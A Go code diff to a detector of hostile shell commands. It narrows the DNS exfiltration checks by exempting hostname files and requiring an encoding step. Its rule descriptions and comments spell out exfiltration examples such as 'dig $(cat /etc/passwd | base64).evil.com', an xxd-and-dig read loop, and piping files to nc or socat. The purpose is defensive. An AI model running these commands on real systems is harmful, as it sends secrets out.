@@ -38,7 +38,7 @@ func init() {
 		"pipedFileSent":      "a file's content, or a database, repository or image dump, piped into nc, socat, telnet, mail, rclone rcat or an upload of standard input by curl or wget, to another host",
 		"minerRun":           "a cryptocurrency miner run (xmrig, cpuminer, …, or a stratum+tcp:// pool given)",
 		"argCarriesFile":     "curl, wget or httpie sending a local file's content in an argument computed from it (a URL, -d \"$(cat FILE)\")",
-		"readLoopSent":       "a file read line by line and each line sent in a DNS name or a URL (while read l; do dig $l.HOST; done)",
+		"readLoopSent":       "a file encoded (xxd, base64, od) and read line by line, each line sent in a DNS name or a URL (xxd -p F | while read l; do dig $l.HOST; done)",
 		"uploadOfVariable":   "curl or wget uploading a file named by a variable (-T \"$f\", -d @$f, -F file=@$f, --post-file=$f)",
 		"servedShell":        "a shell served to other hosts: a terminal server given a shell (ttyd, gotty, websocketd), a shared session (tmate, sshx, upterm host), the Docker API on TCP or relayed from its socket, a remote-access port exposed (bore, lt, a socat relay or ssh -g/-L 0.0.0.0 forward to :22)",
 		"servedRoot":         "a file server serving / or the home folder (ruby httpd, caddy file-server --root, twistd web --path, rclone serve)",
@@ -418,6 +418,11 @@ var fileEncoders = map[string]bool{
 	"tail": true, "strings": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true, "tac": true, "uuencode": true,
 }
 
+// identityFiles hold only the machine's name or zone: sending one says
+// no more than $(hostname) does (dev6's label: $(whoami) in a name is
+// everyday).
+var identityFiles = map[string]bool{"/etc/hostname": true, "/etc/timezone": true, "/proc/sys/kernel/hostname": true}
+
 // dnsNameCarriesFile flags a DNS lookup of a name built from a file's
 // content ("dig $(cat /etc/passwd | base64).evil.com"): the name's labels
 // reach the domain's server. A substitution that prints no file
@@ -434,9 +439,10 @@ func (c *checker) dnsNameCarriesFile(cmd *shell.Command, name, dir string) {
 		s := shell.Parse(": " + a.Raw)
 		for i := range s.Commands {
 			in := &s.Commands[i]
-			reads := slices.ContainsFunc(in.Files(), func(f shell.FileUse) bool { return f.Read && f.Path != "/dev/null" })
+			reads := slices.ContainsFunc(in.Files(), func(f shell.FileUse) bool { return f.Read && f.Path != "/dev/null" && !identityFiles[f.Path] })
 			if !reads && !in.Dynamic && fileEncoders[path.Base(in.Name)] {
-				reads = len(operands(in.Args)) > 0 || slices.ContainsFunc(in.Redirects, func(r shell.Redirect) bool { return r.Read })
+				reads = slices.ContainsFunc(operands(in.Args), func(w shell.Word) bool { return !identityFiles[w.Lit] }) ||
+					slices.ContainsFunc(in.Redirects, func(r shell.Redirect) bool { return r.Read })
 			}
 			if reads {
 				c.because(name, a.Raw)
@@ -1133,19 +1139,26 @@ func loopVarSent(w shell.Word, v string) bool {
 	return false
 }
 
-// readLoopSent flags a file's content read line by line ("xxd -p f |
+// encoders turn a file's bytes into text that fits a DNS label or a URL:
+// what an exfiltration loop needs, and a list of names or ids does not.
+var encoders = map[string]bool{"xxd": true, "base64": true, "base32": true, "basenc": true, "od": true, "hexdump": true, "uuencode": true}
+
+// readLoopSent flags a file's content, encoded, read line by line ("xxd -p f |
 // while read l; do dig $l.evil.com; done", "while read l; do curl
 // URL?d=$l; done < f") and each line sent in a DNS name or a URL: the
 // README's "sending a file ... in ping payloads" in its DNS and HTTP
 // spellings.
 func (c *checker) readLoopSent(units [][]unit) {
-	fileRead := false
+	fileRead, encoded := false, false
 	vars := map[string]bool{}
 	for _, us := range units {
 		for _, u := range us {
 			cmd := &u.cmd
 			if readsLocalFile(cmd) {
 				fileRead = true
+			}
+			if !cmd.Dynamic && encoders[path.Base(cmd.Name)] {
+				encoded = true
 			}
 			if !cmd.Dynamic && cmd.Name == "read" {
 				for _, w := range plainWords(cmd.Args, "-d", "-n", "-N", "-p", "-t", "-u", "-a") {
@@ -1157,8 +1170,8 @@ func (c *checker) readLoopSent(units [][]unit) {
 			}
 		}
 	}
-	if !fileRead || len(vars) == 0 {
-		return
+	if !fileRead || !encoded || len(vars) == 0 {
+		return // a list of names or ids read and looked up is everyday
 	}
 	for _, us := range units {
 		for _, u := range us {
